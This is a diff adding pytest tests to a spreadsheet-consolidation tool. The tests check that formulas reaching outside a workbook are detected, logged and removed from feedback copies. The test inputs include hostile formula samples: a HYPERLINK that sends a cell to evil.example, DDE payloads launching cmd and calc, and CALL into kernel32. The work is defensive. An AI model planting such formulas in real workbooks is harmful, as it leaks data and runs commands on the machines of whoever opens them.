@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import html
 import io
 import json
+import re
 import shutil
 from pathlib import Path
 
@@ -136,3 +138,89 @@ def test_a_file_replaced_during_the_run_gets_no_copy_and_a_log_entry(inbox, out)
     assert not (out / "phan-hoi" / son.name).exists()
     page = next(out.glob("tong-hop-*.html")).read_text(encoding="utf-8")
     assert f"phan-hoi/{son.name}" not in page
+
+
+# Formulas that reach outside the workbook ---------------------------------------------
+
+from consolidate.external import is_external  # noqa: E402
+
+
+@pytest.mark.parametrize("formula", [
+    'HYPERLINK("http://evil.example/?q="&B7,5)', "hyperlink(A1)", '_xlfn.WEBSERVICE("http://x")',
+    "cmd|'/C calc'!A0", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", "[1]Sheet1!A1", "'[2]Biểu mẫu 1'!C7",
+    "SUM([1]Sheet1!A1:A3)", "'C:\\bao-cao\\[nguon.xlsx]Sheet1'!A1", 'RTD("x",,"y")', 'CALL("kernel32","x")',
+    'REGISTER.ID("a","b")', "_xll.ADDIN(1)", '_xlfn.IMAGE("http://x/a.png")',
+])
+def test_a_formula_reaching_outside_is_recognised(formula):
+    assert is_external(formula)
+
+
+@pytest.mark.parametrize("formula", [
+    "D7+E7+F7", "SUM(C7:C20)", '"a|b"&A1', 'IF(A1="[1]",1,0)', "Bang1[Tổng số]", "Bang1[[#This Row],[Cột]]",
+    "'Biểu mẫu 1'!C7", "CALLS+1", "AVERAGE(D7:D9)",
+])
+def test_a_formula_inside_the_workbook_is_left_alone(formula):
+    assert not is_external(formula)
+
+
+def _external_inbox(inbox: Path, tmp_path: Path, fallback: bool = False) -> Path:
+    an = unit_file(inbox, "x-phuoc-an")
+    made = hostile.external_formulas(an, tmp_path / "ngoai.xlsx")
+    if fallback:  # an XML comment in the marked sheet: the patcher leaves it to openpyxl
+        made = hostile.rewrite(made, tmp_path / "ngoai-2.xlsx",
+                               {hostile.SHEET1: lambda x: x.replace("?>", "?><!-- ghi chú -->", 1)})
+    shutil.copy(made, an)
+    return an
+
+
+def _externals(problems) -> list[tuple[str, str]]:
+    return sorted((p.sheet, p.cell) for p in problems if p.code == "formula-external")
+
+
+EXPECTED = sorted(("Biểu mẫu 1", cell) for cell in hostile.EXTERNAL_FORMULAS)
+
+
+def test_formulas_reaching_outside_are_logged_on_every_path(inbox, tmp_path):
+    an = _external_inbox(inbox, tmp_path)
+    from consolidate.pipeline import check
+
+    ((_, found),) = check([an])
+    assert _externals(found) == EXPECTED
+    small = tmp_path / "small"
+    small.mkdir()
+    shutil.copy(an, small)
+    assert _externals(run_pipeline(small).problems) == EXPECTED
+    large = run_pipeline(inbox)
+    assert _externals(large.problems) == EXPECTED
+    assert all(p.severity == "warning" for p in large.problems if p.code == "formula-external")
+    assert not any(p.file == an.name and p.severity == "error" for p in large.problems)
+
+
+@pytest.mark.parametrize("fallback", [False, True], ids=["patched", "openpyxl"])
+def test_a_feedback_copy_keeps_the_value_and_drops_the_formula_that_reaches_outside(inbox, out, tmp_path, fallback):
+    import zipfile
+
+    import openpyxl
+
+    an = _external_inbox(inbox, tmp_path, fallback)
+
+    run_cli("run", inbox, "--out", out)
+
+    log = [e for e in read_log(out) if e["file"] == an.name]
+    assert sorted(e["cell"] for e in log if e["code"] == "formula-external") == sorted(hostile.EXTERNAL_FORMULAS)
+    copy = out / "phan-hoi" / an.name
+    ws = openpyxl.load_workbook(copy)["Biểu mẫu 1"]
+    for cell, (_, value) in hostile.EXTERNAL_FORMULAS.items():
+        assert ws[cell].value == int(value), cell  # the cached value, as a plain number
+        assert "liên kết ra ngoài tệp" in ws[cell].comment.text
+    assert ws[hostile.INTERNAL_FORMULA[0]].value == "=" + hostile.INTERNAL_FORMULA[1]  # a formula of its own stays
+    with zipfile.ZipFile(copy) as zf:
+        parts = {n: zf.read(n).decode("utf-8") for n in zf.namelist() if not n.endswith((".png", ".bin"))}
+    assert not [n for n in parts if "externalLink" in n.lower()]
+    formulas = [html.unescape(f) for text in parts.values() for f in re.findall(r"<(?:\w+:)?f(?:\s[^>]*)?>([^<]*)</", text)]
+    assert formulas and not [f for f in formulas if is_external(f)]
+    everything = "".join(parts.values())
+    for gone in ("externalReference", "externalLink", "nguon-ngoai", 'name="Ngoai"'):
+        assert gone not in everything, gone  # the link, its path and the name that pointed there
+    if fallback:
+        assert "<!--" not in everything  # made by openpyxl
